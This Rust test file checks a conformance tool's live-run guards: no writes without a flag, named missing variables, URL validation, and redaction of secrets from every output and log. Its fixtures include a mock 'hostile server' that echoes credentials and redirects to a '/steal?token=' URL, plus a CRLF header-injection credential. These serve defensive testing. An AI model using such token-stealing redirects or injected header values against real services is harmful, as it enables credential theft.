//! The guards of a live run: without writes allowed nothing reaches the server (not even a
//! connection); missing environment variables are named before anything is sent; and a known
//! token and key, echoed back by a hostile server in bodies, headers and redirects, appear in
//! no output: human (with and without colour), JSON, JUnit, the dry-run listing, the refusal,
//! errors, `Debug` of every value a caller holds, and the mock's log.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use conformance::live::{self, LiveError, TargetError};
use conformance::mock::{MockOptions, RequestLogger};
use conformance::report;

use super::support::{
    GOOD_TICKET, Reply, ScriptedServer, TEST_CRM_TOKEN, TEST_LADIFLOW_KEY, everything_at,
    http_response, json_reply, mock_fixtures, plan_for, test_options, vendor_fixture,
};

#[test]
fn without_allow_writes_the_server_receives_no_request_at_all() {
    let server = ScriptedServer::start(|_, _| json_reply(201, GOOD_TICKET));
    let fixtures = mock_fixtures();
    let plan = plan_for(&[], &everything_at(&server.base_url()), Some(&fixtures));
    let mut options = test_options();
    options.allow_writes = false;
    let error =
        live::run(&vendor_fixture().1, &plan, &options, &|_| {}).expect_err("writes are refused");
    let LiveError::WritesNotAllowed { requests } = &error;
    assert_eq!(requests.len(), 5, "every endpoint writes: {requests:#?}");
    assert!(
        error
            .to_string()
            .contains("nothing was sent; pass --allow-writes")
    );
    // The dry-run listing sends nothing either.
    let listing = plan.render(true);
    assert!(listing.contains("POST"));
    assert_eq!(server.connections(), 0, "no connection was even opened");
    assert!(server.received().is_empty());
}

/// One environment and the variables a run must name as missing.
struct MissingVariablesCase {
    what: &'static str,
    set: &'static [(&'static str, &'static str)],
    base_url_given: bool,
    missing: &'static [&'static str],
}

#[test]
fn missing_environment_variables_are_named_before_anything_is_sent() {
    let (_, contracts) = vendor_fixture();
    let services = vec!["crm".to_owned(), "ladiflow".to_owned()];
    let cases = [
        MissingVariablesCase {
            what: "nothing set",
            set: &[],
            base_url_given: false,
            missing: &["CRM_DOMAIN", "CRM_TOKEN", "LADIFLOW_API_KEY"],
        },
        MissingVariablesCase {
            what: "an empty value counts as missing",
            set: &[("CRM_TOKEN", ""), ("CRM_DOMAIN", "acme.crm.example")],
            base_url_given: false,
            missing: &["CRM_TOKEN", "LADIFLOW_API_KEY"],
        },
        MissingVariablesCase {
            what: "a base URL given needs no domain",
            set: &[],
            base_url_given: true,
            missing: &["CRM_TOKEN", "LADIFLOW_API_KEY"],
        },
    ];
    for case in cases {
        let environment = |wanted: &str| {
            case.set
                .iter()
                .find(|(variable, _)| *variable == wanted)
                .map(|(_, value)| (*value).to_owned())
        };
        let overrides = if case.base_url_given {
            everything_at("http://127.0.0.1:9")
        } else {
            BTreeMap::new()
        };
        let error = live::resolve_targets(contracts, &services, &overrides, &environment)
            .expect_err(case.what);
        let TargetError::MissingVariables { variables: missing } = &error else {
            panic!("{}: expected missing variables, got {error}", case.what);
        };
        let names: Vec<&str> = missing
            .iter()
            .map(|variable| variable.name.as_str())
            .collect();
        assert_eq!(names, case.missing, "{}", case.what);
        assert!(
            error
                .to_string()
                .starts_with("missing environment variables, nothing was sent: ")
        );
    }
}

#[test]
fn the_crm_domain_fills_the_base_url_and_must_be_a_host() {
    let (_, contracts) = vendor_fixture();
    let services = vec!["crm".to_owned()];
    let cases: &[(&str, Result<&str, &str>)] = &[
        ("acme.crm.example", Ok("https://acme.crm.example")),
        ("https://acme.crm.example", Err("give the host alone")),
        ("acme.crm.example/v2", Err("a host name has no spaces, `/`")),
        (
            "user@acme.crm.example",
            Err("a host name has no spaces, `/`, `@`"),
        ),
    ];
    for (domain, expected) in cases {
        let environment = |wanted: &str| match wanted {
            "CRM_DOMAIN" => Some((*domain).to_owned()),
            "CRM_TOKEN" => Some(TEST_CRM_TOKEN.to_owned()),
            _ => None,
        };
        match (
            live::resolve_targets(contracts, &services, &BTreeMap::new(), &environment),
            expected,
        ) {
            (Ok(targets), Ok(url)) => assert_eq!(targets[0].base_url, *url, "{domain}"),
            (Err(error), Err(words)) => {
                assert!(error.to_string().contains(words), "{domain}: {error}")
            }
            (got, _) => panic!("{domain}: expected {expected:?}, got {got:?}"),
        }
    }
}

/// A server that echoes the credential it receives everywhere it can: in JSON error bodies, in
/// HTML pages, in headers, and in a redirect's URL.
fn hostile_server(other_host: String) -> ScriptedServer {
    ScriptedServer::start(move |_, request| {
        let credential = request
            .header("authorization")
            .or_else(|| request.header("api-key"))
            .unwrap_or_default()
            .to_owned();
        match request.target.as_str() {
            "/v2/accounts/create" => json_reply(
                401,
                &format!(
                    r#"{{"error": "token {credential} is not valid", "token": "{credential}"}}"#
                ),
            ),
            "/v2/leads/create" => Reply::Raw(http_response(
                500,
                Some("text/html"),
                format!(
                    "<html><pre>Authorization: {credential}</pre>{}</html>",
                    "x".repeat(600)
                )
                .as_bytes(),
                &[],
            )),
            "/v2/leads/intelligent" => Reply::Raw(http_response(
                201,
                Some(&format!(
                    "application/json; token={}",
                    credential.replace(' ', "_")
                )),
                format!(
                    r#"{{"id": 1, "message": "{credential}", "name": "x", "{credential}": true}}"#
                )
                .as_bytes(),
                &[],
            )),
            "/v2/tickets/create" => {
                let token = credential.trim_start_matches("Bearer ");
                let location = format!("{other_host}/steal?token={token}");
                Reply::Raw(http_response(
                    307,
                    None,
                    b"",
                    &[("Location", location.as_str())],
                ))
            }
            _ => Reply::Raw(http_response(
                200,
                Some("text/html"),
                format!("<html>key {credential} rejected</html>").as_bytes(),
                &[],
            )),
        }
    })
}

#[test]
fn a_known_secret_appears_in_no_output() {
    let other_host = ScriptedServer::start(|_, request| {
        // Echoes the query (which carries the token) back in the body.
        json_reply(200, &format!(r#"{{"seen": "{}"}}"#, request.target))
    });
    let server = hostile_server(other_host.base_url());
    let fixtures = mock_fixtures();
    let plan = plan_for(&[], &everything_at(&server.base_url()), Some(&fixtures));

    let mut outputs: Vec<(String, String)> = Vec::new();
    outputs.push(("dry run".to_owned(), plan.render(true)));
    outputs.push(("plan debug".to_owned(), format!("{plan:?}")));
    outputs.push((
        "targets".to_owned(),
        plan.targets.iter().map(ToString::to_string).collect(),
    ));
    let mut refused = test_options();
    refused.allow_writes = false;
    let refusal =
        live::run(&vendor_fixture().1, &plan, &refused, &|_| {}).expect_err("writes are refused");
    outputs.push(("refusal".to_owned(), format!("{refusal} {refusal:?}")));

    let progress_lines = Mutex::new(Vec::new());
    let live_report = live::run(&vendor_fixture().1, &plan, &test_options(), &|progress| {
        if let Ok(mut lines) = progress_lines.lock() {
            lines.push(format!("{:?}", progress.case));
        }
    })
    .expect("writes are allowed");
    outputs.push((
        "progress".to_owned(),
        progress_lines.into_inner().unwrap_or_default().join("\n"),
    ));
    outputs.push((
        "human".to_owned(),
        report::human::render(&live_report, false),
    ));
    outputs.push((
        "human in colour".to_owned(),
        report::human::render(&live_report, true),
    ));
    outputs.push(("json".to_owned(), report::json::render(&live_report)));
    outputs.push(("junit".to_owned(), report::junit::render(&live_report)));
    outputs.push(("report debug".to_owned(), format!("{live_report:?}")));

    // The secrets did go out, and came back, so the test proves the scrubbing.
    assert!(
        server
            .received()
            .iter()
            .any(|request| request.header("authorization")
                == Some(format!("Bearer {TEST_CRM_TOKEN}").as_str())),
        "the token was sent"
    );
    assert!(
        other_host
            .received()
            .iter()
            .any(|request| request.target.contains(TEST_CRM_TOKEN)),
        "the hostile redirect carried the token in its URL, and it was followed"
    );
    assert!(
        other_host
            .received()
            .iter()
            .all(|request| request.header("authorization").is_none()),
        "the other host never got the credential header"
    );
    let human = &outputs
        .iter()
        .find(|(name, _)| name == "human")
        .expect("rendered")
        .1;
    assert!(
        human.contains("[redacted CRM_TOKEN]"),
        "echoed tokens are shown redacted: {human}"
    );

    // A credential that cannot be a header: the error never shows it.
    let bad_environment = |name: &str| match name {
        "CRM_TOKEN" => Some(format!("{TEST_CRM_TOKEN}\r\nX-Injected: 1")),
        _ => None,
    };
    let error = live::resolve_targets(
        &vendor_fixture().1,
        &["crm".to_owned()],
        &everything_at("http://127.0.0.1:9"),
        &bad_environment,
    )
    .expect_err("line breaks cannot go in a header");
    outputs.push(("bad credential".to_owned(), format!("{error} {error:?}")));

    // The mock's log, with both credentials sent to it.
    let lines = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&lines);
    let log: RequestLogger = Arc::new(move |entry| {
        if let Ok(mut lines) = sink.lock() {
            lines.push(format!("{entry} {entry:?}"));
        }
    });
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("binding 127.0.0.1:0");
    let (sources, contracts) = vendor_fixture();
    let mock = conformance::mock::serve(
        Arc::clone(contracts),
        sources,
        listener,
        MockOptions {
            log: Some(log),
            ..MockOptions::default()
        },
    )
    .expect("the mock starts");
    let mock_plan = plan_for(&[], &everything_at(&mock.base_url()), Some(&fixtures));
    let mock_report = live::run(&vendor_fixture().1, &mock_plan, &test_options(), &|_| {})
        .expect("writes are allowed");
    assert_eq!(mock_report.exit_code(), 0, "{mock_report:#?}");
    mock.stop().expect("the mock stops");
    outputs.push((
        "mock log".to_owned(),
        lines
            .lock()
            .map(|lines| lines.join("\n"))
            .unwrap_or_default(),
    ));
    assert!(
        outputs
            .last()
            .is_some_and(|(_, text)| text.contains("POST /v2/accounts/create -> 201"))
    );

    for (name, text) in &outputs {
        for secret in [TEST_CRM_TOKEN, TEST_LADIFLOW_KEY] {
            assert!(!text.contains(secret), "{name} shows a secret:\n{text}");
        }
    }
}

/// One `--base-url` argument and what its parse gives: the service it is for, or the words of
/// its error.
struct BaseUrlArgumentCase {
    argument: &'static str,
    expected: Result<&'static str, &'static str>,
}

#[test]
fn a_malformed_base_url_argument_is_refused_without_repeating_it() {
    let (_, contracts) = vendor_fixture();
    let known: Vec<&str> = contracts
        .model
        .services
        .iter()
        .map(|service| service.id.as_str())
        .collect();
    let services = vec!["crm".to_owned()];
    let cases = [
        BaseUrlArgumentCase {
            argument: "crm=http://127.0.0.1:9",
            expected: Ok("crm"),
        },
        BaseUrlArgumentCase {
            argument: "http://127.0.0.1:9",
            expected: Ok("crm"),
        },
        // The bug: a token pasted after `crm:` was repeated in the error.
        BaseUrlArgumentCase {
            argument: "crm:crm-TOKEN-do-not-leak-7f3a9c",
            expected: Err("--base-url for crm takes `SERVICE=URL`"),
        },
        BaseUrlArgumentCase {
            argument: "crm-TOKEN-do-not-leak-7f3a9c",
            expected: Err("--base-url takes `SERVICE=URL`"),
        },
        BaseUrlArgumentCase {
            argument: "crm-TOKEN-do-not-leak-7f3a9c=http://127.0.0.1:9",
            expected: Err("names a service that no spec defines"),
        },
        BaseUrlArgumentCase {
            argument: "crm=crm-TOKEN-do-not-leak-7f3a9c",
            expected: Err("--base-url for crm is not a usable URL"),
        },
        BaseUrlArgumentCase {
            argument: "crm=crm-TOKEN-do-not-leak-7f3a9c://host",
            expected: Err("--base-url for crm is not a usable URL: the scheme"),
        },
        BaseUrlArgumentCase {
            argument: "crm=http://host:crm-TOKEN-do-not-leak-7f3a9c",
            expected: Err("--base-url for crm is not a usable URL: the port"),
        },
        BaseUrlArgumentCase {
            argument: "crm=http://user:crm-TOKEN-do-not-leak-7f3a9c@host",
            expected: Err("--base-url for crm is not a usable URL: user information"),
        },
    ];
    for case in cases {
        let parsed =
            live::target::parse_base_url_arguments(&[case.argument.to_owned()], &services, &known)
                .and_then(|overrides| {
                    live::resolve_targets(
                        contracts,
                        &services,
                        &overrides,
                        &super::support::test_environment,
                    )
                });
        match (parsed, case.expected) {
            (Ok(targets), Ok(service)) => assert_eq!(targets[0].service, service),
            (Err(error), Err(words)) => {
                let shown = format!("{error} {error:?}");
                assert!(
                    shown.contains(words),
                    "{}: expected {words:?} in {shown}",
                    case.argument
                );
                assert!(
                    !shown.contains(TEST_CRM_TOKEN) && !shown.contains("TOKEN"),
                    "{}: the error repeats the value: {shown}",
                    case.argument
                );
            }
            (got, expected) => panic!("{}: expected {expected:?}, got {got:?}", case.argument),
        }
    }
}

#[test]
fn the_mock_log_never_shows_the_credential_a_request_carries() {
    use base64::Engine;
    use std::io::{Read, Write};

    let lines = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&lines);
    let log: RequestLogger = Arc::new(move |entry| {
        if let Ok(mut lines) = sink.lock() {
            lines.push(format!("{entry} {entry:?}"));
        }
    });
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("binding 127.0.0.1:0");
    let (sources, contracts) = vendor_fixture();
    let mock = conformance::mock::serve(
        Arc::clone(contracts),
        sources,
        listener,
        MockOptions {
            log: Some(log),
            ..MockOptions::default()
        },
    )
    .expect("the mock starts");
    let encoded =
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("user:{TEST_CRM_TOKEN}"));
    let paths = [
        format!("/v2/{TEST_CRM_TOKEN}"),
        format!("/v2/accounts/{}", TEST_CRM_TOKEN.to_ascii_uppercase()),
        format!("/v2/{encoded}/create"),
    ];
    let address = mock.base_url().trim_start_matches("http://").to_owned();
    for path in &paths {
        let mut stream = std::net::TcpStream::connect(&address).expect("the mock accepts");
        write!(
            stream,
            "GET {path} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {TEST_CRM_TOKEN}\r\nConnection: close\r\n\r\n"
        )
        .expect("the request is written");
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        assert!(
            answer.starts_with(b"HTTP/1.1 404"),
            "{}",
            String::from_utf8_lossy(&answer)
        );
    }
    mock.stop().expect("the mock stops");
    let logged = lines
        .lock()
        .map(|lines| lines.join("\n"))
        .unwrap_or_default();
    assert_eq!(logged.lines().count(), paths.len(), "{logged}");
    assert!(logged.contains("[redacted credential]"), "{logged}");
    for secret in [
        TEST_CRM_TOKEN.to_owned(),
        TEST_CRM_TOKEN.to_ascii_uppercase(),
        encoded,
    ] {
        assert!(
            !logged.contains(&secret),
            "the log shows {secret}:\n{logged}"
        );
    }
}
